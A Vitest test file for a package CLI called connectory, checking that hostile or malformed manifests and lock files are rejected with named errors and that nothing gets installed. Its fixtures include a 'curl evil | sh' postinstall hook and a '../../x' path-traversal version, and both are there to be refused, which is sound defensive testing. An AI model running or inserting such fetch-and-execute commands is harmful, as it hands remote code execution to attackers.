import fs from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { homePaths } from "../../../cli/home/home.js";
import { listFiles, tempDir } from "../../helpers/tmp.js";
import { machine, projectWorld, type ProjectWorld, tty } from "./project-fixtures.js";

// A hostile or broken connectory.json (a clone of someone else's repository) gets a clear error that
// names the problem, and nothing is written: no install, no lock, no marketplace added behind the back.

let world: ProjectWorld;
beforeAll(async () => {
  world = await projectWorld();
  await world.publish("alpha", "1.0.0");
});
afterAll(() => world.reg.close());

async function projectWith(manifest: string) {
  const dir = await tempDir("connectory-project-");
  await fs.writeFile(path.join(dir, "connectory.json"), manifest);
  return dir;
}

describe("a hostile connectory.json", () => {
  it("unknown keys and a huge range: every problem named, nothing written", async () => {
    const dir = await projectWith(
      JSON.stringify({
        connectors: { alpha: "^1.0.0 || ".repeat(5000) + "^2" },
        postinstall: "curl evil | sh",
      }),
    );
    const m = await machine(world);
    const r = await m.run(dir, "sync", "--json");
    expect(r.code).toBe(1);
    const error = JSON.parse(r.stdout).error;
    expect(error.code).toBe("project.manifest.invalid");
    expect(error.problems.map((p: { path: string; message: string }) => `${p.path} ${p.message}`)).toEqual([
      '/postinstall unknown key "postinstall" (allowed: $schema, connectors, marketplaces, hosts, tools, guards, profiles, grants)',
      "/connectors/alpha the range is longer than 128 characters",
    ]);
    expect(await listFiles(m.home)).toEqual([]);
    expect(await listFiles(dir)).toEqual(["connectory.json"]);
  });

  it("a file that does not parse says where", async () => {
    const dir = await projectWith('{\n  "connectors": { "alpha": "^1" \n');
    const m = await machine(world);
    const r = await m.run(dir, "sync");
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/connectory\.json does not parse: .* at line 3, column 1/);
  });

  it("a marketplace the user has not added is never added silently: refused without a terminal, asked on one", async () => {
    const manifest = JSON.stringify({
      marketplaces: { team: "http://team.test" },
      connectors: { alpha: { version: "^1.0.0", marketplace: "team" } },
    });
    const dir = await projectWith(manifest);
    const m = await machine(world);
    const r = await m.run(dir, "sync", "--json");
    expect(r.code).toBe(1);
    const error = JSON.parse(r.stdout).error;
    expect(error.code).toBe("project.marketplace.unconfirmed");
    expect(error.hint).toContain("connectory marketplace add team http://team.test");
    expect(await listFiles(m.home)).toEqual([]);
    expect(await listFiles(dir)).toEqual(["connectory.json"]);

    const no = await tty(world, m.home, dir, ["sync"], "n\n");
    expect(no.code).toBe(1);
    expect(no.stderr).toContain('marketplace "team" at http://team.test');
    await expect(fs.access(homePaths(m.home).marketplaces)).rejects.toThrow();

    const yes = await tty(world, m.home, dir, ["sync"], "y\n");
    expect(yes.code, yes.stderr).toBe(0);
    const markets = JSON.parse(await fs.readFile(homePaths(m.home).marketplaces, "utf8"));
    expect(markets.team).toEqual({ url: "http://team.test" });
    expect(
      JSON.parse(await fs.readFile(path.join(dir, "connectory.lock"), "utf8")).connectors.alpha.url,
    ).toBe("http://team.test");
  });

  it("add refuses a range the manifest would not accept and leaves the file as it was", async () => {
    const text = '{\n  // ours\n  "connectors": {}\n}\n';
    const dir = await projectWith(text);
    const m = await machine(world);
    const r = await m.run(dir, "add", "alpha@not-a-range");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("must be a semver range");
    expect(await fs.readFile(path.join(dir, "connectory.json"), "utf8")).toBe(text);
  });

  it("a damaged lock is named, with how to recover", async () => {
    const dir = await projectWith('{ "connectors": { "alpha": "^1.0.0" } }');
    await fs.writeFile(
      path.join(dir, "connectory.lock"),
      '{ "lockfileVersion": 1, "connectors": { "alpha": { "version": "../../x" } }, "hosts": [] }',
    );
    const m = await machine(world);
    const r = await m.run(dir, "sync", "--json");
    expect(r.code).toBe(1);
    const error = JSON.parse(r.stdout).error;
    expect(error.code).toBe("project.lock.invalid");
    expect(error.hint).toContain("restore it from version control");
  });

  it("no project here: every project verb names `connectory init`", async () => {
    const m = await machine(world);
    const empty = await tempDir();
    for (const argv of [["sync"], ["add", "alpha"], ["remove", "alpha"]]) {
      const r = await m.run(empty, ...argv, "--json");
      expect(r.code).toBe(1);
      expect(JSON.parse(r.stdout).error.code).toBe("project.none");
    }
  });
});
